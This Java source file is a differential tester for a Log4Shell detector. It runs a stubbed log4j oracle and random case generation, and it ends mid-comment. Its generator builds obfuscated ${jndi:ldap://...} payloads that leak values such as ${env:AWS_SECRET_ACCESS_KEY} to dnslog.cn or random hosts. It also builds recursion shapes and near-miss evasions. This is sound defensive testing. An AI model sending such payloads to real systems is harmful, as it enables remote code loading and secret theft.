/*
 * Log4jDiff.java -- the real-log4j oracle, case generator and comparator of
 * the differential test (see docs/differential-testing.md).
 *
 * Modes (all files: one case per line; a case is the hex of its UTF-8 bytes):
 *   gen SEED COUNT                write COUNT random cases to stdout
 *   tohex                         text lines on stdin (UTF-8) -> hex lines;
 *                                 blank lines and lines starting "#" skipped
 *   tohex-all                     the same, keeping every line
 *   eval                          hex cases on stdin -> oracle results on stdout
 *   compare CASES EXPECTED GOT [MAX] [--names-only]
 *                                 print the first MAX differing cases, exit 1
 *                                 if any differ
 *   subset CASES EXPECTED GOT [MAX]
 *                                 report cases where GOT lacks a name of
 *                                 EXPECTED (defuse normal mode; informational)
 *   show                          hex lines on stdin -> escaped text
 *   trace                         text lines on stdin: print every pass
 *   version                       the log4j-core version on the class path
 *   patch CORE_JAR OUTDIR         write 2.19's StrSubstitutor.class with
 *                                 2.14.1's fresh cycle stack for nested names
 *   minimize DEFUSE_EVAL          hex cases on stdin -> one minimized input
 *                                 per mismatch class (Markdown)
 *   decode                        hex on stdin -> hex after the reference
 *                                 transport decoder (for corpus_payloads.sh)
 *   corpus-extract LOGSDIR        the corpus's payload strings, as
 *                                 LABEL TAB SOURCE TAB HEX
 *   corpus-check TSV RAW DECODED NORMAL EXACT
 *                                 the rules of tests/e2e/corpus_payloads.sh
 *
 * A result line is "STATUS[ =HEX]...[ #HEXFINAL]": STATUS is ok, cycle
 * (2.14.1's IllegalStateException "Infinite loop"), overflow
 * (StackOverflowError) or error:CLASS; each "=HEX" is one distinct JNDI name
 * requested (hex of UTF-8, sorted); "#HEXFINAL" (oracle only, informational)
 * is the formatted message.  defuse_eval prints "ok", "recursion" or "limit"
 * instead (see mismatchClass() for how they compare).
 *
 * The oracle evaluates a message as log4j-core 2.14.1's
 * MessagePatternConverter.format() does: whenever the builder holds "${" at
 * index i, the WHOLE message is replaced by StrSubstitutor.replace() of it
 * and the scan continues at i+1 over the new text.  The Interpolator's own
 * lookups are replaced: "jndi" records its key and returns null, every other
 * prefix except lower, upper and date returns null (the victim's state is
 * unknown), and the properties map is empty (${hostName} is unresolved).
 */
import java.io.BufferedReader;
import java.io.BufferedWriter;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.OutputStreamWriter;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Paths;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Collections;
import java.util.HashMap;
import java.util.List;
import java.util.Random;
import java.util.TreeSet;

import org.apache.logging.log4j.Level;
import org.apache.logging.log4j.LoggingException;
import org.apache.logging.log4j.core.LogEvent;
import org.apache.logging.log4j.core.impl.Log4jLogEvent;
import org.apache.logging.log4j.core.lookup.Interpolator;
import org.apache.logging.log4j.core.lookup.MapLookup;
import org.apache.logging.log4j.core.lookup.StrLookup;
import org.apache.logging.log4j.core.lookup.StrSubstitutor;
import org.apache.logging.log4j.message.SimpleMessage;
import org.apache.logging.log4j.status.StatusData;
import org.apache.logging.log4j.status.StatusListener;
import org.apache.logging.log4j.status.StatusLogger;

public final class Log4jDiff {

    /** One substitution pass (StrSubstitutor.replace(event, text) of 2.14.1). */
    public interface Substituter {
        String run(LogEvent event, String text);
    }

    /** Thrown from the status listener when 2.19 reports a cycle. */
    static final class CycleException extends LoggingException {
        private static final long serialVersionUID = 1L;

        CycleException(final String msg) {
            super(msg);
        }
    }

    /* Victim-state prefixes (LOG4J.md); any other registered prefix except
     * lower/upper/date is nulled too. */
    private static final String[] VICTIM_PREFIXES = {
        "env", "sys", "java", "ctx", "main", "map", "sd", "docker", "k8s", "kubernetes", "spring", "web",
        "bundle", "jvmrunargs", "log4j", "marker", "event"
    };

    private static final StrLookup NULL_LOOKUP = new StrLookup() {
        @Override
        public String lookup(final String key) {
            return null;
        }

        @Override
        public String lookup(final LogEvent event, final String key) {
            return null;
        }
    };

    /* Event times: Log4jLogEvent replaces 0 by the current time, so 1970-01-02;
     * the other time formats to a string of another length ("1/2/70, 12:00 AM"
     * vs "2/13/09, 11:31 PM"), so a result that depends on a date's length
     * changes too. */
    private static final long DAY = 86_400_000L;
    private final TreeSet<String> requested = new TreeSet<>();
    private final Substituter sub;
    /** log4j-core 2.14.1's own MessagePatternConverter, or null on 2.19
     * (whose converter no longer substitutes; evaluate1() runs its loop). */
    private final org.apache.logging.log4j.core.pattern.LogEventPatternConverter converter;
    private LogEvent event;
    /* A second event at another time: a result that differs between the two
     * depends on the clock (an unquoted letter in ${date:...}). */
    private final LogEvent otherTimeEvent;
    /** Upper bound of MessagePatternConverter passes (a guard, never reached by generated cases). */
    private static final int MAX_TEXT = 1 << 20;

    Log4jDiff() throws Exception {
        final Interpolator interp = new Interpolator(new MapLookup(new HashMap<String, String>()),
                Collections.<String>emptyList());
        final java.util.Map<String, StrLookup> map = interp.getStrLookupMap();
        for (final String k : new ArrayList<>(map.keySet())) {
            if (!k.equals("lower") && !k.equals("upper") && !k.equals("date")) {
                map.put(k, NULL_LOOKUP);
            }
        }
        for (final String k : VICTIM_PREFIXES) {
            map.put(k, NULL_LOOKUP);
        }
        /* The victim is a Unix JVM: the system properties its platform fixes
         * have their values; the rest of its state stays unknown (null). */
        final java.util.Map<String, String> unix = new HashMap<>();
        unix.put("path.separator", ":");
        unix.put("file.separator", "/");
        unix.put("line.separator", "\n");
        map.put("sys", new StrLookup() {
            @Override
            public String lookup(final String key) {
                return key == null ? null : unix.get(key);
            }

            @Override
            public String lookup(final LogEvent e, final String key) {
                return lookup(key);
            }
        });
        map.put("jndi", new StrLookup() {
            @Override
            public String lookup(final String key) {
                if (key != null) {
                    requested.add(key);
                }
                return null;
            }

            @Override
            public String lookup(final LogEvent e, final String key) {
                return lookup(key);
            }
        });
        if (!map.containsKey("lower") || !map.containsKey("upper") || !map.containsKey("date")) {
            throw new IllegalStateException("lower/upper/date lookups missing: " + map.keySet());
        }
        /* The real date lookup, noting that it ran (see evaluate()). */
        final StrLookup date = map.get("date");
        map.put("date", new StrLookup() {
            @Override
            public String lookup(final String key) {
                dateUsed = true;
                return date.lookup(key);
            }

            @Override
            public String lookup(final LogEvent e, final String key) {
                dateUsed = true;
                return date.lookup(e, key);
            }
        });
        boolean has219;
        try {
            Class.forName("org.apache.logging.log4j.core.lookup.LookupResult");
            has219 = true;
        } catch (final ClassNotFoundException e) {
            has219 = false;
        }
        if (has219) {
            sub = (Substituter) Class.forName("Sub219").getConstructor(StrLookup.class).newInstance(interp);
            converter = null;
        } else {
            final StrSubstitutor plain = new StrSubstitutor(interp);
            sub = (e, t) -> plain.replace(e, t);
            /* The real 2.14.1: its own MessagePatternConverter (what "%m"
             * of a PatternLayout runs) over a configuration whose
             * substitutor resolves through the rewired Interpolator. */
            final org.apache.logging.log4j.core.config.DefaultConfiguration cfg =
                    new org.apache.logging.log4j.core.config.DefaultConfiguration();
            cfg.getStrSubstitutor().setVariableResolver(interp);
            converter = org.apache.logging.log4j.core.pattern.MessagePatternConverter.newInstance(cfg,
                    new String[0]);
        }
        /* Turns 2.19's cycle warning into 2.14.1's exception (and keeps other
         * status messages, e.g. bad date patterns, off stderr). */
        StatusLogger.getLogger().registerListener(new StatusListener() {
                @Override
                public void log(final StatusData data) {
                    final String m = data.getMessage().getFormattedMessage();
                    if (m.startsWith("Infinite loop")) {
                        throw new CycleException(m);
                    }
                }

                @Override
                public Level getStatusLevel() {
                    return Level.WARN;
                }

                @Override
                public void close() {
                }
            });
        event = Log4jLogEvent.newBuilder().setLoggerName("diff").setLevel(Level.INFO)
                .setMessage(new SimpleMessage("diff")).setTimeMillis(DAY).build();
        otherTimeEvent = Log4jLogEvent.newBuilder().setLoggerName("diff").setLevel(Level.INFO)
                .setMessage(new SimpleMessage("diff")).setTimeMillis(1234567890123L).build();
    }

    static String version() {
        final Package p = Interpolator.class.getPackage();
        final String v = p == null ? null : p.getImplementationVersion();
        return v == null ? "unknown" : v;
    }

    /* ---------------------------------------------------------------- */
    /* Evaluation                                                        */
    /* ---------------------------------------------------------------- */

    /** When non-null, evaluate() prints every MessagePatternConverter pass here. */
    private PrintStream trace;
    private boolean dateUsed;

    /** Evaluates one message; returns the result line.  If a ${date:...}
     * lookup ran and the result changes with the event's time, the status
     * is "clock" (the input depends on the time of day; not comparable). */
    String evaluate(final String msg) {
        dateUsed = false;
        final String r = evaluate1(msg);
        if (!dateUsed || trace != null) {
            return r;
        }
        final LogEvent keep = event;
        event = otherTimeEvent;
        final String r2;
        try {
            r2 = evaluate1(msg);
        } finally {
            event = keep;
        }
        if (!r2.equals(r)) {
            return "clock" + r.substring(r.indexOf(' ') < 0 ? r.length() : r.indexOf(' '));
        }
        return r;
    }

    private String evaluate1(final String msg) {
        requested.clear();
        String status = "ok";
        StringBuilder wb = new StringBuilder(msg);
        try {
            if (converter != null && trace == null) {
                /* PatternLayout "%m" -> MessagePatternConverter.format() */
                final LogEvent ev = Log4jLogEvent.newBuilder().setLoggerName("diff").setLevel(Level.INFO)
                        .setMessage(new SimpleMessage(msg)).setTimeMillis(event.getTimeMillis()).build();
                wb = new StringBuilder();
                converter.format(ev, wb);
            }
            for (int i = 0; converter == null || trace != null ? i < wb.length() - 1 : false; i++) {
                if (wb.charAt(i) == '$' && wb.charAt(i + 1) == '{') {
                    final String value = wb.toString();
                    wb.setLength(0);
                    wb.append(sub.run(event, value));
                    if (trace != null) {
                        trace.printf("pass at index %d (UTF-16): %s%n    -> %s   JNDI so far %s%n", i, show(value),
                                show(wb.toString()), requested);
                    }
                    if (wb.length() > MAX_TEXT) {
                        status = "error:too-long";
                        break;
                    }
                }
            }
        } catch (final CycleException e) {
            status = "cycle";
        } catch (final IllegalStateException e) {
            status = e.getMessage() != null && e.getMessage().startsWith("Infinite loop") ? "cycle"
                    : "error:" + e.getClass().getName();
        } catch (final StackOverflowError e) {
            status = "overflow";
        } catch (final Throwable e) {
            status = "error:" + e.getClass().getName();
        }
        final StringBuilder out = new StringBuilder(status);
        final TreeSet<String> hexes = new TreeSet<>();
        for (final String n : requested) {
            hexes.add(hex(n));
        }
        for (final String h : hexes) {
            out.append(" =").append(h);
        }
        if (status.equals("ok")) {
            out.append(" #").append(hex(wb.toString()));
        }
        return out.toString();
    }

    /* ---------------------------------------------------------------- */
    /* Hex and escaping                                                  */
    /* ---------------------------------------------------------------- */

    static String hex(final String s) {
        final byte[] b = s.getBytes(StandardCharsets.UTF_8);
        final StringBuilder sb = new StringBuilder(b.length * 2);
        for (final byte x : b) {
            sb.append(Character.forDigit((x >> 4) & 15, 16)).append(Character.forDigit(x & 15, 16));
        }
        return sb.toString();
    }

    static byte[] unhexBytes(final String h) {
        if ((h.length() & 1) != 0) {
            throw new IllegalArgumentException("odd hex length");
        }
        final byte[] b = new byte[h.length() / 2];
        for (int i = 0; i < b.length; i++) {
            final int hi = Character.digit(h.charAt(2 * i), 16);
            final int lo = Character.digit(h.charAt(2 * i + 1), 16);
            if (hi < 0 || lo < 0) {
                throw new IllegalArgumentException("bad hex digit");
            }
            b[i] = (byte) (hi << 4 | lo);
        }
        return b;
    }

    static String unhex(final String h) {
        return new String(unhexBytes(h), StandardCharsets.UTF_8);
    }

    /** Java-style escaped text: printable ASCII kept, the rest as \\uXXXX. */
    static String show(final String s) {
        final StringBuilder sb = new StringBuilder();
        for (int i = 0; i < s.length(); i++) {
            final char c = s.charAt(i);
            if (c == '\\') {
                sb.append("\\\\");
            } else if (c >= 0x20 && c < 0x7f) {
                sb.append(c);
            } else {
                sb.append(String.format("\\u%04X", (int) c));
            }
        }
        return sb.toString();
    }

    /* ---------------------------------------------------------------- */
    /* Generator                                                         */
    /* ---------------------------------------------------------------- */

    static final class Gen {
        private static final String[] SCHEMES = {
            "ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "nis", "http"
        };
        private static final String[] JUNK_KEYS = {
            "", ":", "::", "anything", "env:NaN", "foo:bar", "k8s:k5", "sd:k5", "sys:k5", "main:\\k5", "ctx:x",
            "spring:k5", "web:k5", "env:ENV_NAME", "what:ever", "x:UMADq", "123%25ff", "EnV:K5", "jvmrunargs:q",
            "event:a", "bundle:b:c", "hostName", "map:m", "docker:d", "kubernetes:k", "log4j:x", "marker:m"
        };
        private static final String[] VICTIMS = {
            "${env:USER}", "${env:AWS_SECRET_ACCESS_KEY}", "${sys:java.version}", "${hostName}", "${java:os}",
            "${env:COMPUTERNAME}", "${sys:user.name}", "${java:version}", "${ctx:loginId}", "${main:0}",
            "${env:HOME:-nohome}", "${sys:os.name:-x}", "${contextName}", "${docker:containerId}",
            "${k8s:podName}", "${spring:spring.application.name}", "${web:rootDir}", "${map:type}",
            "${jvmrunargs:0}", "${log4j:configLocation}", "${marker:m}", "${event:Message}", "${sd:type}",
            "${bundle:application:x}"
        };
        private static final String[] WORDS = {
            "GET", "/index.html", "user", "login", "failed", "for", "id=42", "HTTP/1.1", "200", "-", "ua:",
            "Mozilla/5.0", "ok", "${", "}", "$", "{", ":-", "jndi", "ldap", "caf\u00e9", "\u4e2d\u6587",
            "\uD83D\uDE00", "\u0131", "\u212A", "\u017F", "x=$1", "a:b", "${}", "$}", "}}", "'", "\\", "%24%7B",
            "\t", "${user.name}", "#{x}", "@"
        };

        /* Characters whose case mapping is unusual (expanding, context-dependent,
         * outside the BMP, title case). */
        private static final String[] UNI = {
            "\u0131", "\u017F", "\u212A", "\u0130", "\u00DF", "\u03C3", "\u03C2", "\u01C5", "\u0149",
            "\uFB00", "\u0390", "\uD801\uDC00", "\uD801\uDC28", "\u13A0", "\uAB70", "\u10D0", "\u1E9E",
            "\u00E9", "\u00C9", "\u0345", "\u1F80", "\u2126", "\u212B", "\u0587", "\uFF41", "\uFF21", "A", "z",
            "\u4E2D", "\uD83D\uDE00", " ", "\u00A0"
        };
        /* Odd bytes in names: whitespace, control characters, quotes, "$", braces. */
        private static final String[] ODD = {
            "\t", " ", "\u0001", "\u007F", "'", "\"", "$", "{", "$$", "\\", ":-", ":\\-", "%24", "&#36;", "\r"
        };
        static final int MAX_DEPTH = 6;
        private final Random r;
        /** Inside a date pattern: no further date tricks (quotes do not nest). */
        private boolean inDate;

        Gen(final long seed) {
            r = new Random(seed);
        }

        private boolean p(final double prob) {
            return r.nextDouble() < prob;
        }

        private String pick(final String[] a) {
            return a[r.nextInt(a.length)];
        }

        private String label() {
            final String al = "abcdefghijklmnopqrstuvwxyz0123456789";
            final int n = 1 + r.nextInt(8);
            final StringBuilder sb = new StringBuilder();
            for (int i = 0; i < n; i++) {
                sb.append(al.charAt(r.nextInt(al.length())));
            }
            return sb.toString();
        }

        private String host() {
            switch (r.nextInt(8)) {
            case 0:
                return "127.0.0.1";
            case 1:
                return "127.0.0.1#" + label() + ".com";
            case 2:
                return r.nextInt(256) + "." + r.nextInt(256) + "." + r.nextInt(256) + "." + r.nextInt(256);
            case 3:
                return label() + ".dnslog.cn";
            default:
                return label() + "." + label() + ".com";
            }
        }

        /** The JNDI name, with the victim-value lookups still as ${...} text. */
        private List<String> nameParts() {
            final List<String> parts = new ArrayList<>();
            parts.add(pick(SCHEMES));
            parts.add(p(0.1) ? ":/" : "://");
            if (p(0.3)) {
                parts.add("\u0000V");
                parts.add(".");
            }
            parts.add(host());
            if (p(0.3)) {
                parts.add(":" + (1000 + r.nextInt(9000)));
            }
            switch (r.nextInt(8)) {
            case 0:
                break;
            case 6:
                parts.add("/");
                parts.add("\u0000U");
                break;
            case 7:
                parts.add("/" + label());
                parts.add(pick(ODD));
                break;
            case 1:
                parts.add("/Basic/Command/Base64/aWQ=");
                break;
            case 2:
                parts.add("/a?leak=");
                parts.add("\u0000V");
                break;
            case 3:
                parts.add("/" + label());
                parts.add("\u0000V");
                break;
            default:
                parts.add("/" + label());
                break;
            }
            return parts;
        }

        /* Mixed-case ASCII letters. */
        private String mixCase(final String s) {
            final StringBuilder sb = new StringBuilder();
            for (final char c : s.toCharArray()) {
                sb.append(p(0.5) ? Character.toUpperCase(c) : c);
            }
            return sb.toString();
        }

        /* A string whose toLowerCase() (en_US) is s, or nearly (rare İ). */
        private String forLower(final String s) {
            final StringBuilder sb = new StringBuilder();
            for (final char c : s.toCharArray()) {
                if (c == 'k' && p(0.4)) {
                    sb.append('\u212A');
                } else if (c == 'i' && p(0.05)) {
                    sb.append('\u0130');
                } else if (p(0.5)) {
                    sb.append(Character.toUpperCase(c));
                } else {
                    sb.append(c);
                }
            }
            return sb.toString();
        }

        /* A string whose toUpperCase() (en_US) is upper(s), using ı, ſ, ß. */
        private String forUpper(final String s) {
            final StringBuilder sb = new StringBuilder();
            for (int i = 0; i < s.length(); i++) {
                final char c = s.charAt(i);
                if (c == 'i' && p(0.4)) {
                    sb.append('\u0131');
                } else if (c == 's' && i + 1 < s.length() && s.charAt(i + 1) == 's' && p(0.5)) {
                    sb.append('\u00DF');
                    i++;
                } else if (c == 's' && p(0.4)) {
                    sb.append('\u017F');
                } else {
                    sb.append(p(0.3) ? Character.toUpperCase(c) : c);
                }
            }
            return sb.toString();
        }

        private static boolean hasAsciiLetter(final String s) {
            for (final char c : s.toCharArray()) {
                if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z')) {
                    return true;
                }
            }
            return false;
        }

        /* A lookup-name key that resolves to nothing, optionally obfuscated. */
        private String junkKey(final int depth) {
            String k = pick(JUNK_KEYS);
            if (p(0.15)) {
                k = label() + ":" + label();
            }
            if (depth > 0 && p(0.15) && k.length() > 1) {
                final int cut = 1 + r.nextInt(k.length() - 1);
                if (k.charAt(cut - 1) != '\\') {
                    k = k.substring(0, cut) + obf(k.substring(cut), depth - 1, false);
                }
            }
            if (p(0.05)) {
                k = k + ":\\-" + label();
            }
            return k;
        }

        /** Text that evaluates to s (s holds no "${" and no "}"). */
        String obf(final String s, final int depth, final boolean caseFree) {
            if (s.isEmpty()) {
                return s;
            }
            final StringBuilder sb = new StringBuilder();
            int i = 0;
            while (i < s.length()) {
                int n = 1 + r.nextInt(Math.min(4, s.length() - i));
                if (Character.isHighSurrogate(s.charAt(i + n - 1)) && i + n < s.length()) {
                    n++;
                }
                final String c = s.substring(i, i + n);
                i += n;
                if (depth <= 0 || p(depth >= 4 ? 0.45 : 0.6)) {
                    sb.append(caseFree ? mixCase(c) : c);
                } else {
                    sb.append(trick(c, depth, caseFree));
                }
            }
            return sb.toString();
        }

        private String trick(final String c, final int depth, final boolean caseFree) {
            final int d = depth - 1;
            switch (r.nextInt(11)) {
            case 0:
            case 1:
            case 2:
                return "${" + junkKey(d) + ":-" + obf(c, d, caseFree) + "}";
            case 3:
                return "${" + obf(mixCase("lower"), d, true) + ":" + obf(forLower(c), d, false) + "}";
            case 4:
                if (!c.equals(c.toLowerCase()) || !caseFree) {
                    return "${" + (p(0.8) ? "lower" : mixCase("lower")) + ":" + obf(forLower(c), d, false) + "}";
                }
                return "${" + (p(0.8) ? "upper" : mixCase("upper")) + ":" + obf(forUpper(c), d, false) + "}";
            case 5:
                if (caseFree) {
                    return "${" + (p(0.8) ? "upper" : "UpPeR") + ":" + obf(forUpper(c), d, false) + "}";
                }
                return "${lower:" + c + "}";
            case 6: {
                if (inDate || c.contains("'") || c.contains("-")) {
                    return "${::-" + c + "}";
                }
                if (!hasAsciiLetter(c) && p(0.5)) {
                    return "${date:" + c + "}";
                }
                inDate = true;
                final String inner = obf(c, d, false);
                inDate = false;
                return "${" + (p(0.8) ? "date" : "DaTe") + ":'" + inner + "'}";
            }
            case 7:
                /* escaped delimiter: ${x:\-y:-c} */
                return "${" + label() + ":\\-" + label() + ":-" + obf(c, d, caseFree) + "}";
            case 8:
                /* Kelvin sign / mixed case in a victim prefix, used for its default */
                return "${" + (p(0.5) ? "\u212A8s" : mixCase("env")) + ":" + label() + ":-" + obf(c, d, caseFree)
                        + "}";
            case 9:
                /* $$ inside a default: evaluated by 2.14.1's recursion (not
                 * inside a date pattern, where it could leave a quote open) */
                if (inDate) {
                    return "${" + label() + ":-" + c + "}";
                }
                return "${" + label() + ":-$${" + label() + ":-" + c + "}}";
            default:
                return "${" + obf("::", d, false) + "-" + obf(c, d, caseFree) + "}";
            }
        }

        /** ${lower:...}/${upper:...} over unusual case mappings. */
        String unicodeCase() {
            final StringBuilder sb = new StringBuilder();
            final int n = 1 + r.nextInt(5);
            for (int i = 0; i < n; i++) {
                sb.append(pick(UNI));
            }
            return "${" + (p(0.5) ? "lower" : "upper") + ":" + sb + "}";
        }

        private String victim(final int depth) {
            final String v = pick(VICTIMS);
            if (depth > 0 && p(0.3)) {
                /* obfuscate the inside: ${${lower:env}:USER} */
                final String inner = v.substring(2, v.length() - 1);
                return "${" + obf(inner, depth - 1, false) + "}";
            }
            return v;
        }

        private String name(final int depth) {
            final StringBuilder sb = new StringBuilder();
            for (final String part : nameParts()) {
                if (part.equals("\u0000V")) {
                    sb.append(victim(depth));
                } else if (part.equals("\u0000U")) {
                    sb.append(unicodeCase());
                } else {
                    sb.append(obf(part, p(0.4) ? depth : r.nextInt(2), false));
                }
            }
            return sb.toString();
        }

        /** A payload that should fire. */
        String payload() {
            final int depth = 1 + r.nextInt(5);
            final String pre = p(0.8) ? obf("jndi", depth, true) : mixCase("jndi");
            final String colon = p(0.7) ? ":" : obf(":", depth, false);
            String body = name(depth);
            if (p(0.1)) {
                /* jndi inside lower/upper: fires twice, once lower-cased */
                return "${" + pick(new String[] {"lower", "upper", "::-"}) + (p(0.5) ? ":" : "") + "${" + pre
                        + colon + body + "}}";
            }
            return "${" + pre + colon + body + "}";
        }

        /** Near misses: look like payloads, mostly do not fire. */
        String nearMiss() {
            final String name = pick(SCHEMES) + "://" + host() + "/" + label();
            switch (r.nextInt(22)) {
            case 0:
                return "${ jndi:" + name + "}";
            case 1:
                return "${jndi :" + name + "}";
            case 2:
                return "${jnd1:" + name + "}";
            case 3:
                return "$${jndi:" + name + "}";
            case 4:
                return "${base64:" + Base64.getEncoder().encodeToString(("${jndi:" + name + "}")
                        .getBytes(StandardCharsets.UTF_8)) + "}";
            case 5:
                return "${" + pick(new String[] {"jdni", "jndl", "nidj", "j ndi", "jndi-", "ndi", "jndii", "JND\u0130",
                    "\uFF4Andi", "\u2149ndi", "jnd\u0131", "JN\u0110I"}) + ":"
                        + name + "}";
            case 6:
                return "{jndi:" + name + "}";
            case 7:
                return "$ {jndi:" + name + "}";
            case 8:
                return "${" + obf("jndi", 2, true) + ":" + name;
            case 9:
                return "${lower:jndi}:" + name;
            case 10:
                return "$${" + obf("jndi", 2, true) + ":" + name + "}";
            case 11:
                return "${" + obf("jnd", 2, true) + "${upper:\u0130}:" + name + "}";
            case 12:
                return "${jndi:" + name;
            case 14:
                /* unclosed "${" before a payload: only valid in exact mode */
                return "${" + label() + " " + payload();
            case 15:
                return "${" + pick(ODD) + "jndi:" + name + "}";
            case 16:
                return "${jndi:" + name + pick(ODD) + "}";
            case 17:
                return "$$$${jndi:" + name + "}";
            case 18:
                return "${" + obf("jndi", 2, true) + ":" + name + "}}" + "${" + label() + ":-}";
            case 19:
                return "${date:'" + pick(UNI) + "''" + pick(UNI) + "'}" + "${date:" + pick(UNI).replaceAll("[A-Za-z]", "")
                        + "}";
            case 20:
                return "${jndi:" + pick(SCHEMES) + "://" + host() + "/${jndi:" + name + "}}";
            case 21:
                return "${" + label() + label() + label() + label() + label() + label() + label() + ":-j}ndi:"
                        + name + "}";
            default:
                return "${" + obf("jndi", 1, true) + "\\:" + name + "}";
            }
        }

        /** CVE-2021-45105 shapes: cycles through "$$" in defaults. */
        String recursion() {
            final String k = pick(new String[] {":", "", "a", "x:y", "env:NaN", label()});
            switch (r.nextInt(5)) {
            case 0:
                return "${${::-${::-$${::-j}}}}";
            case 1:
                return "${" + k + ":-$${" + k + ":-" + label() + "}}";
            case 2:
                /* the same name twice, but the inner one inside a nested name: no cycle in 2.14.1 */
                return "${" + k + ":-$${$${" + k + ":-j}ndi:ldap://" + host() + "/r}}";
            case 3:
                return "${" + k + ":-${" + label() + ":-$${" + k + ":-" + payload() + "}}}";
            default:
                return "${" + k + ":-$${" + label() + ":-$${" + k + ":-z}}}";
            }
        }

        /** Many triggering "${" before a long "$$...${" run: one pass per "${". */
        String passes() {
            final StringBuilder sb = new StringBuilder();
            final int k = 1 + r.nextInt(30);
            for (int i = 0; i < k; i++) {
                sb.append(p(0.7) ? "${" + label() + "}" : "${" + label() + ":-${" + label() + "}}");
            }
            final int m = 1 + r.nextInt(25);
            for (int i = 0; i < m; i++) {
                sb.append('$');
            }
            return sb + "{jndi:" + pick(SCHEMES) + "://" + host() + "/" + m + "}";
        }

        String junk() {
            final StringBuilder sb = new StringBuilder();
            final int n = r.nextInt(4);
            for (int i = 0; i < n; i++) {
                sb.append(pick(WORDS));
                if (p(0.7)) {
                    sb.append(' ');
                }
            }
            return sb.toString();
        }

        /** Maximum nesting of "${" ... "}" in s. */
        static int depth(final String s) {
            int d = 0;
            int max = 0;
            for (int i = 0; i < s.length(); i++) {
                if (s.startsWith("${", i)) {
                    d++;
                    max = Math.max(max, d);
                    i++;
                } else if (s.charAt(i) == '}' && d > 0) {
                    d--;
                }
            }
            return max;
        }

        /** A random message with at most MAX_DEPTH nested lookups. */
        String message() {
            String m;
            do {
                m = message1();
            } while (depth(m) > MAX_DEPTH);
            return m;
        }

        private String message1() {
            final StringBuilder sb = new StringBuilder();
            final int segs = 1 + r.nextInt(3);
            for (int i = 0; i < segs; i++) {
                sb.append(junk());
                final double x = r.nextDouble();
                if (x < 0.6) {
                    sb.append(payload());
                } else if (x < 0.93) {
                    sb.append(nearMiss());
                } else if (x < 0.96) {
                    sb.append(recursion());
                } else if (x < 0.97) {
                    sb.append(passes());
                } else {
                    sb.append(victim(2));
                }
            }
            sb.append(junk());
            return sb.toString();
        }
    }

    /* ---------------------------------------------------------------- */
    /* Comparison                                                        */
    /* ---------------------------------------------------------------- */

    private static final class Parsed {
        String status;
        final TreeSet<String> names = new TreeSet<>();
        /* defuse_eval -n: names reported under a condition, by mark: '+'
         * decoded layer, '~' field of its own, '^' Windows JVM only, '@'
         * only at some event times (the time was unknown). */
        final java.util.TreeMap<Character, TreeSet<String>> cond = new java.util.TreeMap<>();
        String fin;

        /** Every name, with or without a condition. */
        TreeSet<String> all() {
            final TreeSet<String> a = new TreeSet<>(names);
            for (final TreeSet<String> c : cond.values()) {
                a.addAll(c);
            }
            return a;
        }

        /** log4j: cycle, overflow or another exception; defuse: recursion or a failed scan. */
        boolean error() {
            return !status.equals("ok") && !status.equals("clock");
        }
    }

    private static Parsed parse(final String line) {
        final Parsed p = new Parsed();
        final String[] f = line.trim().split(" ");
        p.status = f[0];
        for (int i = 1; i < f.length; i++) {
            if (f[i].startsWith("=")) {
                p.names.add(f[i].substring(1));
            } else if (!f[i].isEmpty() && "+~^@".indexOf(f[i].charAt(0)) >= 0) {
                p.cond.computeIfAbsent(f[i].charAt(0), k -> new TreeSet<>()).add(f[i].substring(1));
            } else if (f[i].startsWith("#")) {
                p.fin = f[i].substring(1);
            }
        }
        return p;
    }

    /** True for the result statuses defuse_eval prints when the scan worked. */
    static boolean defuseOk(final Parsed g) {
        return g.status.equals("ok") || g.status.equals("recursion") || g.status.equals("limit");
    }

    /**
     * null if e (log4j) and g (defuse) agree, else a short name for how they
     * differ.  The names must be equal.  A log4j error (cycle, overflow) must
     * be a defuse recursion finding; defuse's "limit" (recursion findings that
     * only say a limit of lib/limits.h stopped the emulation, which real log4j
     * does not have) agrees with either outcome as long as the names are the
     * same: compare() counts those cases separately.
     */
    static String mismatchClass(final Parsed e, final Parsed g) {
        if (!defuseOk(g)) {
            return "defuse-" + g.status;
        }
        final boolean limit = g.status.equals("limit");
        if (e.names.equals(g.names) && (limit || e.error() == g.error())) {
            return null;
        }
        if (!limit && e.error() != g.error() && e.names.equals(g.names)) {
            return e.error() ? "log4j-error-only" : "defuse-recursion-only";
        }
        final TreeSet<String> es = new TreeSet<>();
        final TreeSet<String> gs = new TreeSet<>();
        /* U+03C2 final sigma vs U+03C3: Java's context rule differs from ICU's */
        for (final String h : e.names) {
            es.add(h.replace("cf82", "cf83"));
        }
        for (final String h : g.names) {
            gs.add(h.replace("cf82", "cf83"));
        }
        if (es.equals(gs)) {
            return "final-sigma";
        }
        if (gs.containsAll(es)) {
            return "extra-names";
        }
        if (es.containsAll(gs)) {
            return "missing-names";
        }
        return "different-names";
    }

    private static String names(final TreeSet<String> hs) {
        final StringBuilder sb = new StringBuilder("[");
        for (final String h : hs) {
            if (sb.length() > 1) {
                sb.append(", ");
            }
            sb.append(h.equals("-") ? "(no callback)" : '"' + show(unhex(h)) + '"');
        }
        return sb.append(']').toString();
    }

    /** subset CASES EXPECTED GOT [MAX]: cases where a name log4j requests is
     * missing from GOT (defuse normal mode may report more: it also judges
     * each field on its own).  Informational: always exits 0. */
    private static int subset(final String[] a) throws IOException {
        final List<String> cases = Files.readAllLines(Paths.get(a[1]));
        final List<String> exp = Files.readAllLines(Paths.get(a[2]));
        final List<String> got = Files.readAllLines(Paths.get(a[3]));
        final int max = a.length > 4 ? Integer.parseInt(a[4]) : 3;
        final PrintStream out = new PrintStream(System.out, true, "UTF-8");
        int missing = 0;
        int extra = 0;
        for (int i = 0; i < cases.size() && i < exp.size() && i < got.size(); i++) {
            final Parsed e = parse(exp.get(i));
            final Parsed g = parse(got.get(i));
            if (e.status.equals("clock")) {
                continue;
            }
            if (!g.names.containsAll(e.names)) {
                if (missing++ < max) {
                    out.printf("  normal mode misses a name of case %d: %s%n    log4j %s, defuse -n %s%n", i + 1,
                            show(unhex(cases.get(i))), names(e.names), names(g.names));
                }
            } else if (!e.names.containsAll(g.names)) {
                extra++;
            }
        }
        out.printf("normal mode: %d cases miss a name log4j requests, %d report more names than log4j%n", missing,
                extra);
        return 0;
    }

    /**
